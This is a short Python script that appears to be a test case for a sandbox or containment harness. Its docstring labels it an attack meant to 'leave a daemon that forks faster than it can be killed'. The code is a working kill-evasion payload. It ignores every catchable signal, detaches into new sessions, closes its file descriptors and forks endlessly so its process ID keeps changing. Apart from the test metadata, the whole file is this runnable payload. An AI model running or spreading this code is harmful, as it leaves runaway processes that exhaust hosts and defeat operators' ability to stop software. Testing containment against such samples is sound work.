"""
attacks = "Leave a daemon that forks faster than it can be killed."
promise = "survival"
layers = []
observed = "ok: left"
control = "namespace"
naive = "print('GOT a daemon' if another_runs(payload) else '')"
"""
import os
import signal
import time

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 64)
    while True:
        if os.fork():
            os._exit(0)
        os.setsid()
        time.sleep(0.002)
print("left")
